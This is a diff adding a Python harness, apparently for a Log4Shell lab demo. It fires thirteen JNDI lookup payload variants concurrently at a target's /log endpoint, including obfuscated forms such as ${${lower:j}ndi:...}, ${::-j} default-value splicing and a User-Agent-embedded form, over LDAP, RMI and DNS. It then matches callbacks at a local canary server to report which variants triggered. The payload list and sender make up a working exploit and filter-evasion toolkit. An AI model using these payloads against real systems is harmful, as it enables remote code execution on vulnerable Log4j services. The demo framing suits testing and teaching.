@@ -0,0 +1,271 @@
+#!/usr/bin/env python3
+"""
+Payload Correlation Harness for the Log4Shell demo
+Fires JNDI payload variants concurrently at the demo app's /log endpoint,
+each with a unique correlation token in its lookup path, and matches the
+callbacks arriving at an in-process CanaryServer back to the exact payload
+"""
+
+import argparse
+import json
+import math
+import re
+import secrets
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+from concurrent.futures import ThreadPoolExecutor
+
+from attack_server import CanaryServer, DEFAULT_PORT
+from canary_protocols import DEFAULT_DNS_PORT, DEFAULT_HTTP_PORT, DEFAULT_RMI_PORT
+
+DEFAULT_TARGET = "http://localhost:8080"
+DEFAULT_CALLBACK_HOST = "host.docker.internal"
+DEFAULT_CONCURRENCY = 16
+DEFAULT_WAIT = 5.0
+REQUEST_TIMEOUT = 10.0
+PERCENTILES = (50, 90, 99)
+
+# {url} is replaced by scheme://host:port/token; None means no callback is expected
+VARIANTS = [
+    ("plain", "ldap", "${jndi:{url}}"),
+    ("mixed-case", "ldap", "${JnDi:{url}}"),
+    ("lower-j", "ldap", "${${lower:j}ndi:{url}}"),
+    ("upper-j", "ldap", "${${upper:j}ndi:{url}}"),
+    ("default-values", "ldap", "${${::-j}${::-n}${::-d}${::-i}:{url}}"),
+    ("env-default", "ldap", "${${env:NO_SUCH_VAR:-j}ndi:{url}}"),
+    ("sys-default", "ldap", "${${sys:no.such.prop:-j}ndi:{url}}"),
+    ("lower-all", "ldap", "${${lower:J}${lower:N}${lower:D}${lower:I}:{url}}"),
+    ("embedded", "ldap", "User-Agent: Mozilla/5.0 ${${::-j}ndi:{url}} (compatible)"),
+    ("rmi", "rmi", "${jndi:{url}}"),
+    ("rmi-lower-j", "rmi", "${${lower:j}ndi:{url}}"),
+    ("dns", "dns", "${jndi:{url}}"),
+    ("dns-default-values", "dns", "${${::-j}${::-n}${::-d}${::-i}:{url}}"),
+    ("control-no-jndi", None, "${java:version} {token}"),
+]
+TOKEN_PATTERN = re.compile(r"l4h[0-9a-f]{6}x\d+x\d+")
+
+
+def percentile(values, pct):
+    if not values:
+        return None
+    ordered = sorted(values)
+    # Nearest-rank percentile
+    return ordered[max(0, math.ceil(pct / 100.0 * len(ordered)) - 1)]
+
+
+class CorrelatingServer(CanaryServer):
+    """CanaryServer that hands every decoded lookup to the harness instead of printing it"""
+
+    def __init__(self, on_lookup, **kwargs):
+        super().__init__(verbose=False, **kwargs)
+        self.on_lookup = on_lookup
+        self.ready = threading.Event()
+
+    def record_lookup(self, peer, operation, dn, protocol='ldap'):
+        super().record_lookup(peer, operation, dn, protocol)
+        self.on_lookup(protocol, dn)
+
+    def print_banner(self):
+        self.ready.set()
+
+
+class PayloadHarness:
+    """Sends every variant `repeat` times to each target and correlates the callbacks"""
+
+    def __init__(self, targets, callback_host, ports, concurrency=DEFAULT_CONCURRENCY, repeat=1, wait=DEFAULT_WAIT):
+        self.targets = targets
+        self.callback_host = callback_host
+        self.ports = ports
+        self.concurrency = concurrency
+        self.repeat = repeat
+        self.wait = wait
+        self.run_id = secrets.token_hex(3)
+        self.sent = {}
+        self.records = []
+        self.callbacks = {}
+        self.unmatched = 0
+        self._lock = threading.Lock()
+        self.elapsed = 0.0
+
+    def build_payloads(self):
+        """Return one record per request with its unique token and payload text"""
+        payloads = []
+        for target_name, url in self.targets:
+            for index, (variant, scheme, template) in enumerate(VARIANTS):
+                for attempt in range(self.repeat):
+                    token = f"l4h{self.run_id}x{len(payloads)}x{attempt}"
+                    lookup = f"{scheme}://{self.callback_host}:{self.ports[scheme]}/{token}" if scheme else ""
+                    payloads.append({
+                        'target': target_name,
+                        'url': url,
+                        'variant': variant,
+                        'scheme': scheme,
+                        'token': token,
+                        'payload': template.replace("{url}", lookup).replace("{token}", token),
+                    })
+        return payloads
+
+    def on_lookup(self, protocol, dn):
+        received = time.perf_counter()
+        match = TOKEN_PATTERN.search(dn or "")
+        with self._lock:
+            if match is None or match.group(0) not in self.sent:
+                self.unmatched += 1
+                return
+            # Keep the first callback per token; retries and referrals don't count twice
+            self.callbacks.setdefault(match.group(0), (protocol, received))
+
+    def send(self, record):
+        request = urllib.request.Request(f"{record['url']}/log", data=record['payload'].encode(),
+                                         headers={'Content-Type': 'text/plain'}, method='POST')
+        with self._lock:
+            self.sent[record['token']] = record
+        record['sent_at'] = time.perf_counter()
+        try:
+            with urllib.request.urlopen(request, timeout=REQUEST_TIMEOUT) as response:
+                record['status'] = response.status
+        except urllib.error.HTTPError as e:
+            record['status'] = e.code
+        except (urllib.error.URLError, OSError) as e:
+            record['status'] = None
+            record['error'] = str(getattr(e, 'reason', e))
+        record['request_ms'] = (time.perf_counter() - record['sent_at']) * 1000
+        return record
+
+    def run(self):
+        server = CorrelatingServer(self.on_lookup, port=self.ports['ldap'], rmi_port=self.ports['rmi'],
+                                   dns_port=self.ports['dns'], http_port=self.ports['http'])
+        thread = threading.Thread(target=server.start, name='canary-server', daemon=True)
+        thread.start()
+        while not server.ready.wait(0.1):
+            if not thread.is_alive():
+                raise RuntimeError("Canary listeners failed to start (ports in use?)")
+
+        payloads = self.build_payloads()
+        try:
+            start = time.perf_counter()
+            with ThreadPoolExecutor(max_workers=self.concurrency) as pool:
+                self.records = list(pool.map(self.send, payloads))
+            self.elapsed = time.perf_counter() - start
+            # Lookups happen asynchronously in the app; give the last ones time to arrive
+            deadline = time.perf_counter() + self.wait
+            while time.perf_counter() < deadline:
+                with self._lock:
+                    if len(self.callbacks) >= sum(1 for r in payloads if r['scheme']):
+                        break
+                time.sleep(0.05)
+        finally:
+            server.stop()
+            thread.join(timeout=5)
+        return self.summary()
+
+    def summary(self):
+        variants = {}
+        latencies = []
+        for record in self.records:
+            key = (record['target'], record['variant'])
+            entry = variants.setdefault(key, {
+                'target': record['target'], 'variant': record['variant'], 'expects_callback': bool(record['scheme']),
+                'sent': 0, 'statuses': {}, 'callbacks': 0, 'protocols': set(), 'latencies_ms': [],
+            })
+            entry['sent'] += 1
+            status = str(record['status']) if record['status'] else 'error'
+            entry['statuses'][status] = entry['statuses'].get(status, 0) + 1
+            callback = self.callbacks.get(record['token'])
+            if callback is not None:
+                protocol, received = callback
+                latency = (received - record['sent_at']) * 1000
+                entry['callbacks'] += 1
+                entry['protocols'].add(protocol)
+                entry['latencies_ms'].append(latency)
+                latencies.append(latency)
+
+        rows = []
+        for entry in variants.values():
+            entry['triggered'] = entry['callbacks'] > 0
+            entry['protocols'] = sorted(entry['protocols'])
+            entry['p50_ms'] = percentile(entry.pop('latencies_ms'), 50)
+            rows.append(entry)
+
+        request_ms = [r['request_ms'] for r in self.records]
+        return {
+            'run_id': self.run_id,
+            'requests': len(self.records),
+            'elapsed_s': self.elapsed,
+            'requests_per_sec': len(self.records) / self.elapsed if self.elapsed else 0.0,
+            'callbacks': len(self.callbacks),
+            'unmatched_callbacks': self.unmatched,
+            'callback_latency_ms': {f"p{p}": percentile(latencies, p) for p in PERCENTILES},
+            'request_latency_ms': {f"p{p}": percentile(request_ms, p) for p in PERCENTILES},
+            'variants': rows,
+        }
+
+
+def format_ms(value):
+    return f"{value:.1f}" if value is not None else "-"
+
+
+def print_summary(summary):
+    print(f"{'target':<10}{'variant':<22}{'sent':>6}{'callbacks':>11}{'p50 ms':>9}  {'statuses':<16}result")
+    print("-" * 84)
+    for row in summary['variants']:
+        statuses = ",".join(f"{status}x{count}" for status, count in sorted(row['statuses'].items()))
+        if row['triggered']:
+            result = f"TRIGGERED ({'/'.join(row['protocols'])})"
+        elif not row['expects_callback']:
+            result = "control"
+        elif list(row['statuses']) == ['400']:
+            result = "blocked"
+        else:
+            result = "no callback"
+        print(f"{row['target']:<10}{row['variant']:<22}{row['sent']:>6}{row['callbacks']:>11}"
+              f"{format_ms(row['p50_ms']):>9}  {statuses:<16}{result}")
+    print("-" * 84)
+    latency = summary['callback_latency_ms']
+    print(f"Requests: {summary['requests']} in {summary['elapsed_s']:.2f}s "
+          f"({summary['requests_per_sec']:.1f} req/s)")
+    print(f"Callbacks: {summary['callbacks']} matched, {summary['unmatched_callbacks']} unmatched")
+    print("Callback latency: " + "  ".join(f"{name}={format_ms(value)}ms" for name, value in latency.items()))
+
+
+def parse_target(value):
+    name, sep, url = value.partition('=')
+    if not sep or '://' in name:
+        name, url = value, value
+    return (name, url.rstrip('/'))
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Correlate Log4Shell payload variants with their callbacks")
+    parser.add_argument("--target", action="append", type=parse_target, metavar="[NAME=]URL",
+                        help=f"demo app base URL (repeatable, default {DEFAULT_TARGET})")
+    parser.add_argument("--callback-host", default=DEFAULT_CALLBACK_HOST,
+                        help="host the app should call back to (as seen from the container)")
+    parser.add_argument("--concurrency", type=int, default=DEFAULT_CONCURRENCY)
+    parser.add_argument("--repeat", type=int, default=1, help="requests per variant and target")
+    parser.add_argument("--wait", type=float, default=DEFAULT_WAIT,
+                        help="seconds to wait for late callbacks after the last request")
+    parser.add_argument("--ldap-port", type=int, default=DEFAULT_PORT)
+    parser.add_argument("--rmi-port", type=int, default=DEFAULT_RMI_PORT)
+    parser.add_argument("--dns-port", type=int, default=DEFAULT_DNS_PORT)
+    parser.add_argument("--http-port", type=int, default=DEFAULT_HTTP_PORT)
+    parser.add_argument("--json", metavar="PATH", help="write the summary as JSON")
+    args = parser.parse_args()
+
+    ports = {'ldap': args.ldap_port, 'rmi': args.rmi_port, 'dns': args.dns_port, 'http': args.http_port}
+    harness = PayloadHarness(args.target or [parse_target(DEFAULT_TARGET)], args.callback_host, ports,
+                             concurrency=args.concurrency, repeat=args.repeat, wait=args.wait)
+    summary = harness.run()
+    print_summary(summary)
+    if args.json:
+        with open(args.json, 'w') as f:
+            json.dump(summary, f, indent=2)
+    if all(record['status'] is None for record in harness.records):
+        sys.exit("No request reached the target; is the demo container running?")
+
+
+if __name__ == "__main__":
+    main()